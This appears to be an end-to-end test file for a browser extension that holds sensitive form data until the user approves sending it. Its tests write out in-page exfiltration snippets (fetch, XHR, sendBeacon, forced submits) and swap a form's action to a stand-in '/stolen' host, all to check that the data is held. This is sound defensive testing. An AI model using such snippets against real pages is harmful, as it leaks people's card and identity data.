// Pages in a hurry, pages that look alike, pages that fight back: what is held stays held, and the page keeps working.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { CARD } from '#tests/coverage/scenario.ts';
import { HOSTS } from '#tests/demo/hosts.ts';
import { everything } from '#tests/demo/log.ts';
import { centre } from '#tests/support/place.ts';
import type { Tab } from '#tests/support/tab.ts';
import { sleep, until } from '#tests/support/until.ts';
import { BROWSERS } from '#tests/support/which.ts';
import { createWorld, type World } from '#tests/support/world.ts';

const PHONE = '13800138000';

describe.each(BROWSERS)('%s', (name) => {
  let world: World;
  beforeAll(async () => {
    world = await createWorld(name);
  });
  beforeEach(() => world.demo.reset());
  afterEach(async () => {
    for (const tab of await world.tabs()) await tab.close();
  });
  afterAll(() => world?.close());

  const arrived = (value: string) => world.requests().filter((row) => everything(row).includes(value));

  /** Waits for the question, sees that nothing has left, answers. */
  async function answer(tab: Tab, button: string, value = CARD): Promise<void> {
    const dialog = await tab.dialog();
    await dialog.text();
    expect(arrived(value)).toEqual([]);
    await dialog.press(button);
  }

  async function orderAt(path: string): Promise<Tab> {
    const tab = await world.newTab(`https://${HOSTS.hostile}${path}`);
    await tab.type('[name=card]', CARD);
    return tab;
  }

  test.each([
    ['with events, by requestSubmit()', 'fill=events&submit=request'],
    ['with events, by submit()', 'fill=events&submit=submit'],
    ['without events, by requestSubmit()', 'fill=silent&submit=request'],
    ['without events, by submit()', 'fill=silent&submit=submit'],
  ])('a program that fills and submits in one task, %s, is held until the person answers', async (_, query) => {
    const tab = await world.newTab(`https://${HOSTS.keeper}/?${query}&lang=en`);
    await answer(tab, 'Send this once');
    const row = await world.received({ host: HOSTS.keeper, method: 'POST' });
    expect(row.body.toString()).toBe(`user=mei.lin&password=correct+horse+battery&card=${CARD}`);
  });

  test('what a script sends by itself while the card is in the field is held: fetch, XHR, beacon, submit into a new tab', async () => {
    const tab = await world.newTab(`https://${HOSTS.shop}/checkout?lang=en`);
    await tab.type('[name=card]', CARD);
    const sends = [
      `fetch('/by-fetch', { method: 'POST', body: '${CARD}' }).catch((error) => { window.refused = error.name + ': ' + error.message })`,
      `{ const x = new XMLHttpRequest(); x.open('POST', '/by-xhr'); x.onerror = () => { window.failed = true }; x.send('${CARD}') }`,
      `navigator.sendBeacon('/by-beacon', '${CARD}')`,
      `{ const f = document.querySelector('#checkout'); f.target = '_blank'; HTMLFormElement.prototype.submit.call(f) }`,
    ];
    for (const send of sends) await tab.evaluate(`void (${send.startsWith('{') ? `(() => ${send})()` : send})`);
    await answer(tab, "Don't send");
    await sleep(500);
    expect(arrived(CARD)).toEqual([]);
    expect(await tab.evaluate('window.refused')).toBe('TypeError: Failed to fetch');
    expect(await tab.evaluate('window.failed')).toBe(true);
  });

  test('over plain HTTP everything is held, with the reason', async () => {
    const tab = await world.newTab(`http://${HOSTS.market}/?lang=en`);
    await tab.type('[name=phone]', PHONE);
    await tab.click('#order button');
    expect(await (await tab.dialog()).text()).toMatch(/not encrypted|without encryption|in the clear/i);
    await answer(tab, "Don't send", PHONE);
    await sleep(300);
    expect(arrived(PHONE)).toEqual([]);
  });

  test('the look-alike of a trusted bank is named as one, and even a phone number is held there', async () => {
    await trust(HOSTS.bank);
    const tab = await world.newTab(`https://${HOSTS.bankTwin}/?lang=en`);
    const field = await tab.waitFor<string>(
      `document.querySelector('input:not([type=hidden]):not([type=password])')?.name`,
    );
    await tab.type(`[name=${field}]`, '11010519491231002X');
    await tab.press('Enter');
    const words = await (await tab.dialog()).text();
    expect(words).toContain(HOSTS.bankTwin);
    expect(words).toContain(HOSTS.bank);
    await answer(tab, "Don't send", '11010519491231002X');
  });

  test('a tracker that reads the field before anything is submitted is on the record as having received it', async () => {
    const tab = await world.newTab(`https://${HOSTS.newsletter}/?how=image&when=blur&lang=en`);
    // A person, who looks up before going on: what leaves in the very moment of the first recognisable key can be missed
    // (docs/threat-model.md).
    await tab.click('[name=email]');
    await tab.page.keyboard.type('mei.lin@example.org', { delay: 60 });
    await sleep(1500);
    await tab.press('Tab');
    await world.received({ host: HOSTS.tracker, carries: 'mei.lin@example.org' });
    const rows = await until('a row for the tracker', async () => {
      const all = await disclosures();
      return all.find((row) => row.recipient === 'pixelmeter.test');
    });
    expect(rows).toMatchObject({ kind: 'email', page: 'teapotweekly.test', decision: 'none', submittedAt: null });
    expect(rows.sentAt).toBeTypeOf('number');
    expect(JSON.stringify(rows)).not.toContain('mei.lin@');
  });

  test('a closed shadow root hides nothing', async () => {
    const tab = await world.newTab(`https://${HOSTS.clinic}/?lang=en`);
    await tab.click(await tab.pointInClosedRoot('#closed [name=idcard]'));
    await tab.page.keyboard.type('11010519491231002X');
    await tab.click(await tab.pointInClosedRoot('#closed button'));
    await answer(tab, 'Send this once', '11010519491231002X');
    await world.received({ host: HOSTS.clinic, path: '/appointments/closed', carries: '11010519491231002X' });
  });

  test.each([
    ['about:blank', 'blank'],
    ['sandboxed', 'sandbox'],
  ])('a form in a %s frame is held', async (_, form) => {
    const tab = await world.newTab(`https://${HOSTS.clinic}/frames?lang=en`);
    const frame = await until(`the ${form} frame`, async () => {
      const all = await tab.frames();
      const inside = await Promise.all(all.map(async (one) => (await has(one.frame, `form#${form}`)) && one));
      return inside.find(Boolean) || null;
    });
    await tab.click(await pointIn(frame.frame, '[name=idcard]'));
    await tab.page.keyboard.type('11010519491231002X');
    await tab.click(await pointIn(frame.frame, 'button'));
    await answer(tab, 'Send this once', '11010519491231002X');
    await world.received({ host: HOSTS.clinic, path: `/appointments/${form}`, carries: '11010519491231002X' });
  });

  test.each(['throw', 'fake', 'twice', 'override'])(
    'a page that tries "%s" is held, then sends once',
    async (attack) => {
      const tab = await orderAt(`/?do=${attack}&lang=en`);
      await sleep(300);
      expect(await tab.dialogNow(), 'nothing was submitted yet').toBeNull();
      await tab.click('#buy');
      await answer(tab, 'Send this once');
      await world.received({ host: HOSTS.hostile, method: 'POST', carries: CARD });
      await sleep(600);
      expect(arrived(CARD).filter((row) => row.method === 'POST')).toHaveLength(1);
    },
  );

  test('pausing lets nothing go that is being asked about', async () => {
    const tab = await world.newTab(`https://${HOSTS.shop}/checkout?lang=en`);
    await tab.type('[name=card]', CARD);
    await tab.evaluate(`void fetch('/by-fetch', { method: 'POST', body: '${CARD}' }).catch(() => undefined)`);
    await (await tab.dialog()).text();
    await settings({ pausedUntil: Date.now() + 3_600_000 });
    await sleep(500);
    expect(arrived(CARD)).toEqual([]);
    await settings({ pausedUntil: 0 });
    await tab.press('Escape');
    await until('the question to close', async () => !(await tab.dialogNow()));
    expect(arrived(CARD), 'Escape does not send').toEqual([]);
  });

  test('a field that is saved as it is left and a form submitted right after are one question, and both go', async () => {
    const tab = await world.newTab(`https://${HOSTS.shop}/checkout?lang=en`);
    await tab.evaluate(`document.querySelector('[name=card]').addEventListener('change', (event) => {
      fetch('/autosave', { method: 'POST', body: event.target.value });
    })`);
    await tab.type('[name=card]', CARD);
    await tab.press('Enter');
    await answer(tab, 'Send this once');
    await world.received({ host: HOSTS.shop, path: '/checkout', method: 'POST', carries: CARD });
    expect(await tab.dialogNow()).toBeNull();
  });

  test('a page that removes the question sends nothing by it', async () => {
    const tab = await orderAt('/?do=remove&lang=en');
    await tab.click('#buy');
    await sleep(3000);
    expect(arrived(CARD)).toEqual([]);
    expect(await tab.evaluate('document.querySelector("[name=card]").value')).toBe(CARD);
  });

  test('a recipient that is swapped for another path of the same site after the answer gets no second question, for another site it does', async () => {
    const tab = await orderAt('/?lang=en');
    await tab.click('#buy');
    const dialog = await tab.dialog();
    await dialog.text();
    await tab.evaluate(`document.querySelector('#order').setAttribute('action', 'https://${HOSTS.credit}/stolen')`);
    await dialog.press('Send this once');
    await sleep(500);
    expect(arrived(CARD)).toEqual([]);
    const again = await tab.dialog();
    expect(await again.text()).toContain(HOSTS.credit);
    await again.press("Don't send");
    await sleep(300);
    expect(arrived(CARD)).toEqual([]);
  });

  test('field names that hide the form’s own properties hide nothing, and a form of 5,000 fields is held like any other', async () => {
    for (const path of ['/clobber?lang=en', '/flood?lang=en']) {
      const tab = await orderAt(path);
      await tab.click('#buy');
      await answer(tab, 'Send this once');
      await world.received({ host: HOSTS.hostile, method: 'POST', path: '/order', carries: CARD });
      await tab.close();
      world.demo.reset();
    }
  });

  function pointIn(frame: Awaited<ReturnType<Tab['frame']>>, selector: string) {
    return until(`${selector} in the frame`, () =>
      centre(frame, `document.querySelector(${JSON.stringify(selector)})`),
    );
  }

  async function has(frame: Awaited<ReturnType<Tab['frame']>>, selector: string): Promise<boolean> {
    return frame.evaluate<boolean>(`!!document.querySelector(${JSON.stringify(selector)})`).catch(() => false);
  }

  async function trust(site: string): Promise<void> {
    const code = `browser.runtime.sendMessage({ type: 'trust', payload: { sites: ['${site}'], source: 'options' } })`;
    expect(await world.asExtension(code)).toMatchObject({ ok: { added: [site] } });
  }

  async function settings(change: object): Promise<void> {
    const payload = JSON.stringify({ settings: change });
    expect(
      await world.asExtension(`browser.runtime.sendMessage({ type: 'change', payload: ${payload} })`),
    ).toHaveProperty('ok');
  }

  interface Row {
    readonly recipient: string;
    readonly sentAt: number | null;
  }

  function disclosures(): Promise<readonly Row[]> {
    return world.asExtension<readonly Row[]>(`new Promise((done, fail) => {
      const open = indexedDB.databases().then((all) => {
        const request = indexedDB.open(all.find(({ name }) => /whence|ledger/i.test(name)).name);
        request.onerror = () => fail(request.error);
        request.onsuccess = () => {
          const rows = request.result.transaction('disclosures').objectStore('disclosures').getAll();
          rows.onsuccess = () => { request.result.close(); done(rows.result); };
        };
      });
      open.catch(fail);
    })`);
  }
});
